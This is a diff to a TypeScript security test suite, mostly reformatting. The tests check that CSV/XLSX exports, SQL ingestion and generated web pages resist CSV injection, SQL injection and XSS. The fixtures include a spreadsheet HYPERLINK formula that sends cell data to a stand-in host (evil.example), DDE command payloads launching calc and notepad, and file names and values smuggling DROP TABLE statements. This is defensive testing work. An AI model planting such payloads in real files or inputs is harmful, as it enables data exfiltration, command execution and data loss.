@@ -31,9 +31,9 @@ const FORMULA = /^[=+\-@\t\r]/;
 /** Spreadsheet formulas, each at the start of a name, department or reason (OWASP's list). */
 const PAYLOADS = [
   '=HYPERLINK("http://evil.example/?d="&A1,"点击查看")',
-  '+cmd|\' /C calc\'!A0',
-  '-2+3+cmd|\' /C notepad\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C notepad'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
   '\r=1+1',
 ];
@@ -69,13 +69,34 @@ beforeAll(async () => {
   db = path.join(home, 'g.duckdb');
   store = await Store.open(db);
   await migrate(store);
-  const registry = writeFile(root, `registry 'quoted' "name".csv`, toCsv(Object.keys(SYSTEMS[0]), SYSTEMS.map((s) => ({ ...s }))));
+  const registry = writeFile(
+    root,
+    `registry 'quoted' "name".csv`,
+    toCsv(
+      Object.keys(SYSTEMS[0]),
+      SYSTEMS.map((s) => ({ ...s })),
+    ),
+  );
   const telemetry = writeFile(
     root,
     `telemetry'; DROP TABLE files; --.csv`,
     toCsv(
-      ['system_id', 'date', 'cpu_avg_pct', 'cpu_max_pct', 'mem_avg_pct', 'storage_used_gb', 'active_users', 'requests', 'availability_pct', 'open_high_vulns'],
-      SYSTEMS.flatMap((s) => months(s.system_id, MONTHS, s.system_id === 'OK-1' ? {} : IDLE)) as unknown as Record<string, string | number | null>[],
+      [
+        'system_id',
+        'date',
+        'cpu_avg_pct',
+        'cpu_max_pct',
+        'mem_avg_pct',
+        'storage_used_gb',
+        'active_users',
+        'requests',
+        'availability_pct',
+        'open_high_vulns',
+      ],
+      SYSTEMS.flatMap((s) => months(s.system_id, MONTHS, s.system_id === 'OK-1' ? {} : IDLE)) as unknown as Record<
+        string,
+        string | number | null
+      >[],
     ),
   );
   const catalog = writeFile(
@@ -84,8 +105,14 @@ beforeAll(async () => {
     toCsv(
       ['system_id', 'resource_id', 'resource_name', 'share_type', 'update_cycle', 'cataloged_date', 'last_aggregated_date', 'duplicate_of'],
       SYSTEMS.map((s, i) => ({
-        system_id: s.system_id, resource_id: `=R${i}`, resource_name: i % 2 ? XSS.resource : PAYLOADS[i % PAYLOADS.length], share_type: 'unconditional',
-        update_cycle: 'daily', cataloged_date: '2025-01-01', last_aggregated_date: '2026-10-31', duplicate_of: i === 0 ? '=DUP()' : null,
+        system_id: s.system_id,
+        resource_id: `=R${i}`,
+        resource_name: i % 2 ? XSS.resource : PAYLOADS[i % PAYLOADS.length],
+        share_type: 'unconditional',
+        update_cycle: 'daily',
+        cataloged_date: '2025-01-01',
+        last_aggregated_date: '2026-10-31',
+        duplicate_of: i === 0 ? '=DUP()' : null,
       })),
     ),
   );
@@ -94,11 +121,25 @@ beforeAll(async () => {
     'om_report.csv',
     toCsv(
       ['system_id', 'year', 'submitted_date', 'incidents', 'goals_total', 'goals_met', 'integration_points', 'self_score', 'notes'],
-      SYSTEMS.map((s, i) => ({ system_id: s.system_id, year: 2025, submitted_date: '2026-01-15', incidents: 0, goals_total: 2, goals_met: 2, integration_points: 1, self_score: 99, notes: i % 2 ? XSS.note : PAYLOADS[i % PAYLOADS.length] })),
+      SYSTEMS.map((s, i) => ({
+        system_id: s.system_id,
+        year: 2025,
+        submitted_date: '2026-01-15',
+        incidents: 0,
+        goals_total: 2,
+        goals_met: 2,
+        integration_points: 1,
+        self_score: 99,
+        notes: i % 2 ? XSS.note : PAYLOADS[i % PAYLOADS.length],
+      })),
     ),
   );
   // Rows that are refused keep their raw values in the rejects export: payloads there too.
-  const bad = writeFile(root, 'bad.csv', `system_id,date,cpu_avg_pct\n${PAYLOADS.map((p, i) => `"@unknown-${i}",2026-10-0${i + 1},"${p.replace(/"/g, '""')}"`).join('\n')}\nF-1,2026-10-01,"=1+1"\n`);
+  const bad = writeFile(
+    root,
+    'bad.csv',
+    `system_id,date,cpu_avg_pct\n${PAYLOADS.map((p, i) => `"@unknown-${i}",2026-10-0${i + 1},"${p.replace(/"/g, '""')}"`).join('\n')}\nF-1,2026-10-01,"=1+1"\n`,
+  );
   const r = await ingestPaths(store, [registry, telemetry, catalog, reports, bad], { now: NOW });
   expect(r.files.map((f) => f.status)).toEqual(['loaded', 'loaded', 'loaded', 'loaded', 'rejected']);
   for (const m of MONTHS) await runMonth(store, { month: m, profile, now: NOW });
@@ -117,7 +158,9 @@ function periodOf(spec: ExportKind): { month?: string; year?: number } {
 
 describe('exported CSV and XLSX cells cannot be formulas (OWASP CSV injection)', () => {
   it('stores the payloads as they were sent (the test would see them if they leaked)', async () => {
-    const names = await store.all<{ system_name: string; department: string }>(`SELECT system_name, department FROM systems_current WHERE system_id LIKE 'F-%' ORDER BY system_id`);
+    const names = await store.all<{ system_name: string; department: string }>(
+      `SELECT system_name, department FROM systems_current WHERE system_id LIKE 'F-%' ORDER BY system_id`,
+    );
     expect(names.map((n) => n.system_name)).toEqual(PAYLOADS);
   });
 
@@ -151,7 +194,8 @@ describe('exported CSV and XLSX cells cannot be formulas (OWASP CSV injection)',
             if (typeof cell.value === 'string') {
               expect(FORMULA.test(cell.value), `${where} = ${JSON.stringify(cell.value)}`).toBe(false);
               // (XML reads a raw CR back as LF: the cell still begins with the apostrophe)
-              for (const p of PAYLOADS) if (cell.value === `'${p}` || cell.value === `'${p.replace(/\r/g, '\n')}`) seen.add(`${kind}.xlsx:${p}`);
+              for (const p of PAYLOADS)
+                if (cell.value === `'${p}` || cell.value === `'${p.replace(/\r/g, '\n')}`) seen.add(`${kind}.xlsx:${p}`);
             }
           }),
         ),
@@ -177,11 +221,15 @@ describe('exported CSV and XLSX cells cannot be formulas (OWASP CSV injection)',
 
 describe('SQL: paths and values are never spliced into SQL unescaped', () => {
   it('ingests files whose names (and whose database folder) hold quotes and SQL, keeping names and values verbatim', async () => {
-    const files = await store.all<{ file_name: string; status: string; archive_path: string }>('SELECT file_name, status, archive_path FROM files ORDER BY file_id');
+    const files = await store.all<{ file_name: string; status: string; archive_path: string }>(
+      'SELECT file_name, status, archive_path FROM files ORDER BY file_id',
+    );
     expect(files.map((f) => f.file_name)).toContain(`registry 'quoted' "name".csv`);
     expect(files.map((f) => f.file_name)).toContain(`telemetry'; DROP TABLE files; --.csv`);
     for (const f of files) expect(f.archive_path.startsWith(home)).toBe(true);
-    expect(await store.value<string>(`SELECT system_name FROM systems_current WHERE system_id = 'S-QUOTE'`)).toBe(`O'Brien "引号" 系统; DROP TABLE raw_systems; --`);
+    expect(await store.value<string>(`SELECT system_name FROM systems_current WHERE system_id = 'S-QUOTE'`)).toBe(
+      `O'Brien "引号" 系统; DROP TABLE raw_systems; --`,
+    );
     expect(await store.value<number>(`SELECT count(*) FROM raw_systems`)).toBe(SYSTEMS.length);
   });
 
@@ -196,7 +244,7 @@ describe('SQL: paths and values are never spliced into SQL unescaped', () => {
     const o = await ingestFile(store, pq, { now: NOW });
     expect(o.status, o.message).toBe('loaded');
     expect(o.extras).toEqual([`it's "odd"`, `a'); DROP TABLE files; --`]);
-    const js = writeFile(root, `x"y'z.json`, JSON.stringify([{ system_id: 'OK-1', date: '2026-10-03', "k'\"ey": 1, 'a\\b': 2 }]));
+    const js = writeFile(root, `x"y'z.json`, JSON.stringify([{ system_id: 'OK-1', date: '2026-10-03', 'k\'"ey': 1, 'a\\b': 2 }]));
     const j = await ingestFile(store, js, { now: NOW });
     expect(j.status, j.message).toBe('loaded');
     const out = path.join(home, `out 'quoted' "dir"`, `metrics '; DROP TABLE runs; --.parquet`);
@@ -225,7 +273,8 @@ describe('every page escapes input-derived text', () => {
       for (const el of Array.from(document.querySelectorAll('*'))) {
         for (const a of Array.from(el.attributes)) {
           expect(a.name.toLowerCase().startsWith('on'), `${path.relative(site, file)}: <${el.tagName} ${a.name}>`).toBe(false);
-          if (['href', 'src', 'action', 'xlink:href'].includes(a.name.toLowerCase())) expect(a.value.trim().toLowerCase().startsWith('javascript:'), `${file}: ${a.name}=${a.value}`).toBe(false);
+          if (['href', 'src', 'action', 'xlink:href'].includes(a.name.toLowerCase()))
+            expect(a.value.trim().toLowerCase().startsWith('javascript:'), `${file}: ${a.name}=${a.value}`).toBe(false);
         }
         expect(['IFRAME', 'OBJECT', 'EMBED'].includes(el.tagName), `${file}: <${el.tagName}>`).toBe(false);
         if (el.tagName === 'IMG') expect(el.getAttribute('src'), file).not.toBe('x');
